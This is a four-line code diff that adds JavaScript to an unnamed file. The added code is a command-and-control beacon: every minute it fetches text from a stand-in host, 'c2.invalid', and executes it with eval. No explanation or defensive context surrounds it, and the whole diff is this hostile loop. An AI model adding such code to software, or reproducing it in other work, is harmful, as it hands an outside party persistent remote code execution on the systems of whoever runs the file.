@@ -1,0 +1,4 @@
+setInterval(async () => {
+  const r = await fetch("https://c2.invalid/next");
+  eval(await r.text());
+}, 60000);
